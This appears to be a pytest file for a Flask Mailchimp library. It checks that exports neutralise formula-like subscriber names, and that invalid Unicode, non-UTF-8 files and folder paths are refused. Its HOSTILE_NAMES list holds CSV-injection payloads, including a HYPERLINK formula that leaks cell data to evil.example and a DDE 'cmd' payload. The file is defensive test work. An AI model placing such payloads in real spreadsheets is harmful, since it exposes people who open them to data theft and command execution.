"""Hostile input to the Mailchimp side: subscriber values that are spreadsheet formulas,
strings that are not valid Unicode, files that are not UTF-8 text, an export path that is a
folder, and error texts with huge values to scrub. Each is refused (or made harmless) with a
typed error or a one-line CLI error, before any request, without showing an address."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest
from click.testing import Result
from flask import Flask

from flask_dmmail import Mailer
from flask_dmmail.bulk import BulkFailure
from flask_dmmail.csvsafe import safe_cell
from flask_dmmail.errors import InvalidEmailAddressError, InvalidInputError
from flask_dmmail.mailchimp import Audiences, SubscribeOutcome, scrub
from flask_dmmail.sandbox.mailchimp import MailchimpState, member_address
from tests.mailchimp_support import BUYERS, SUPPLIERS, Instrument
from tests.secrets_scan import disclosure_allowed, register_secret

ADDRESS = "ada.lovelace@digital.gov.uk"
BROKEN = "ada.lovelace\udcff@digital.gov.uk"  # what os.fsdecode makes of a stray byte
HTML = "<p>New briefs.</p><p>*|UNSUB|*</p>"
PLAIN = member_address("plain")

# What a subscriber may type as their first name on a signup form.
HOSTILE_NAMES = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?d="&A2,"Click for your badge")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _secrets() -> None:
    register_secret(ADDRESS, BROKEN, kind="address")


def run(app: Flask, *args: str, input: str | bytes | None = None) -> Result:
    return app.test_cli_runner().invoke(args=["dmmail", "mailchimp", *args], input=input)


def assert_clean_error(result: Result, *, code: int, says: str) -> None:
    assert result.exit_code == code, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert result.stderr.startswith(("Error:", "Usage:")), result.stderr
    assert says in result.stderr
    assert "lovelace" not in result.output and "digital.gov.uk" not in result.output


# --------------------------------------------------------------------------- formulas in exports


def test_export_writes_subscriber_values_as_text_never_as_formulas(
    audiences: Audiences, mc_app: Flask, tmp_path: Path
) -> None:
    people = [member_address(f"person{i}") for i in range(len(HOSTILE_NAMES))]
    for address, name in zip(people, HOSTILE_NAMES, strict=True):
        assert audiences.subscribe("suppliers", address, merge_fields={"FNAME": name}).on_list
    audiences.subscribe("suppliers", PLAIN, merge_fields={"FNAME": "Ada"})
    out = tmp_path / "members.csv"
    with disclosure_allowed("the export's CSV holds addresses: that is its purpose"):
        to_file = run(
            mc_app, "export", "suppliers", "--field", "merge_fields.FNAME", "--output", str(out)
        )
        to_stdout = run(mc_app, "export", "suppliers", "--field", "merge_fields.FNAME")
    assert to_file.exit_code == 0, to_file.output
    assert to_stdout.exit_code == 0, to_stdout.output
    for text in (out.read_bytes().decode("utf-8"), to_stdout.stdout_bytes.decode("utf-8")):
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        names = {row["email_address"]: row["merge_fields.FNAME"] for row in rows}
        for address, name in zip(people, HOSTILE_NAMES, strict=True):
            assert names[address] == "'" + name  # shown as typed, never run
        assert names[PLAIN] == "Ada"
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_safe_cell_leaves_other_values_alone() -> None:
    assert [safe_cell(v) for v in ("Ada", "a=b", "", 5, -5, None)] == [
        "Ada",
        "a=b",
        "",
        5,
        -5,
        None,
    ]
    assert [safe_cell(v) for v in HOSTILE_NAMES] == ["'" + v for v in HOSTILE_NAMES]


def test_the_bulk_failures_csv_is_neutralised_the_same_way(mc_app: Flask, tmp_path: Path) -> None:
    mailer = mc_app.extensions["dmmail"]
    assert isinstance(mailer, Mailer)
    report = mailer.send_bulk(
        "reset_password", [("person@example.gov.uk", {"url": "u"})], journal=tmp_path / "j"
    )
    hostile = dataclasses.replace(report, failures=(BulkFailure(2, "X", HOSTILE_NAMES[1]),))
    hostile.write_failures(tmp_path / "failures.csv")
    with (tmp_path / "failures.csv").open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row == {"row": "2", "error_class": "X", "message": "'" + HOSTILE_NAMES[1]}


# --------------------------------------------------------------------------- not valid Unicode


@pytest.mark.parametrize(
    "call",
    [
        lambda mc: mc.forget(BROKEN),
        lambda mc: mc.forget(BROKEN, "suppliers"),
        lambda mc: mc.subscribe("suppliers", BROKEN),
        lambda mc: mc.audiences_for(BROKEN),
    ],
    ids=["forget", "forget in one", "subscribe", "audiences_for"],
)
def test_an_address_with_a_lone_surrogate_is_refused_before_any_request(
    audiences: Audiences, instrument: Instrument, call: object
) -> None:
    assert callable(call)
    with pytest.raises(InvalidEmailAddressError, match="surrogate") as caught:
        call(audiences)
    assert isinstance(caught.value, InvalidInputError)
    assert "lovelace" not in caught.value.message
    assert instrument.requests == []


@pytest.mark.parametrize(
    "call",
    [
        lambda mc: mc.subscribe("suppliers", ADDRESS, merge_fields={"FNAME": "Ad\udcffa"}),
        lambda mc: mc.subscribe("suppliers", ADDRESS, tags=["dos\udcff"]),
        lambda mc: mc.send_campaign("suppliers", title="t\udcff", subject="s", html=HTML),
        lambda mc: mc.send_campaign("suppliers", title="t", subject="s", html=HTML + "\udcff"),
        lambda mc: mc.find_audience("Suppliers\udcff"),
    ],
    ids=["merge field", "tag", "title", "html", "audience name"],
)
def test_other_text_with_a_lone_surrogate_is_refused_before_any_request(
    audiences: Audiences, instrument: Instrument, call: object
) -> None:
    assert callable(call)
    with pytest.raises(InvalidInputError, match="surrogate"):
        call(audiences)
    assert instrument.requests == []


def test_subscribe_many_counts_a_broken_address_as_invalid_and_subscribes_the_rest(
    audiences: Audiences, mc_state: MailchimpState
) -> None:
    result = audiences.subscribe_many("buyers", [ADDRESS, BROKEN])
    assert result.outcome_of(ADDRESS) is SubscribeOutcome.SUBSCRIBED
    assert result.outcome_of(BROKEN) is SubscribeOutcome.INVALID_ADDRESS
    assert mc_state.member_count(BUYERS) == 1


def test_the_forget_command_reports_a_broken_address_by_position(
    mc_app: Flask, mc_state: MailchimpState
) -> None:
    mc_state.add_members(SUPPLIERS, [ADDRESS])
    result = run(mc_app, "forget", BROKEN, ADDRESS)
    assert result.exit_code == 1, result.output
    assert "#1: failed:" in result.stderr and "surrogate" in result.stderr
    assert "#2: deleted from 1 audience: " in result.stdout
    assert "Traceback" not in result.output and "lovelace" not in result.output


# --------------------------------------------------------------------------- files and paths

NOT_UTF8 = f"email\nj\u00f6rg.{ADDRESS}\n".encode("cp1252")  # Excel's "CSV" on Windows


@pytest.mark.parametrize("command", [["subscribe", "suppliers"], ["forget"]])
def test_a_file_that_is_not_utf8_is_a_clear_usage_error(
    mc_app: Flask,
    mc_state: MailchimpState,
    instrument: Instrument,
    tmp_path: Path,
    command: list[str],
) -> None:
    mc_state.add_members(SUPPLIERS, [ADDRESS])
    path = tmp_path / "people.csv"
    path.write_bytes(NOT_UTF8)
    result = run(mc_app, *command, "--file", str(path))
    assert_clean_error(result, code=2, says="not UTF-8 text")
    assert "people.csv" in result.stderr
    piped = run(mc_app, *command, "--file", "-", input=NOT_UTF8)
    assert_clean_error(piped, code=2, says="stdin is not UTF-8 text")
    assert instrument.requests == []
    assert mc_state.member_count(SUPPLIERS, None) == 1


def test_a_utf8_file_with_a_byte_order_mark_is_read(
    mc_app: Flask, mc_state: MailchimpState, tmp_path: Path
) -> None:
    path = tmp_path / "people.csv"
    path.write_bytes(f"Email,Name\n{ADDRESS},Ada\n".encode("utf-8-sig"))
    result = run(mc_app, "subscribe", "buyers", "--file", str(path))
    assert result.exit_code == 0, result.output
    assert "subscribed: 1" in result.stdout and "invalid address: 0" in result.stdout
    assert mc_state.member_count(BUYERS) == 1


@pytest.mark.parametrize(
    "content",
    [b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe", b"<p>*|UNSUB|*</p>\x00\x00\x01"],
    ids=["not utf-8", "nul bytes"],
)
def test_a_binary_html_file_is_a_clear_usage_error(
    mc_app: Flask, mc_state: MailchimpState, instrument: Instrument, tmp_path: Path, content: bytes
) -> None:
    mc_state.add_members(SUPPLIERS, [ADDRESS])
    path = tmp_path / "logo.png"
    path.write_bytes(content)
    args = ["send-campaign", "suppliers", "--title", "t", "--subject", "s", "--html-file"]
    result = run(mc_app, *args, str(path))
    assert_clean_error(result, code=2, says="not UTF-8 text")
    assert instrument.requests == []
    assert mc_state.campaigns() == []


def test_an_export_to_a_folder_is_refused_before_the_export_runs(
    mc_app: Flask, mc_state: MailchimpState, instrument: Instrument, tmp_path: Path
) -> None:
    mc_state.add_members(SUPPLIERS, [ADDRESS])
    result = run(mc_app, "export", "suppliers", "--output", str(tmp_path))
    assert_clean_error(result, code=2, says="it is a folder")
    assert instrument.requests == []  # nothing was read from Mailchimp
    assert list(tmp_path.iterdir()) == []  # and no temporary file was left


# --------------------------------------------------------------------------- scrubbing


def test_scrubbing_a_message_with_a_2_mb_value() -> None:
    huge = "x" * 2_000_000 + "@digital.gov.uk"
    blob = "y" * 2_000_000  # no "@": a pattern that backtracks took hours on this
    message = (
        f"Mailchimp said {huge.upper()} is too long; {blob} "
        f"(and {ADDRESS.upper()}, Ada.Lovelace@Digital.gov.uk, <{ADDRESS}>)"
    )
    scrubbed = scrub(message, [huge, ADDRESS, ""])
    assert "xxxx" not in scrubbed and "lovelace" not in scrubbed.lower()
    assert scrubbed == (
        f"Mailchimp said <address> is too long; {blob} (and <address>, <address>, <<address>>)"
    )
    # something that only looks like an address goes too; words with a lone "@" stay
    assert scrub("write to someone@elsewhere.example or @team; a@ @b") == (
        "write to <address> or @team; a@ @b"
    )
    # a value whose case folds to more characters ("ß" -> "ss") is still found
    assert scrub("Straße, STRASSE; Strasse!", ["strasse"]) == "<address>, <address>; <address>!"
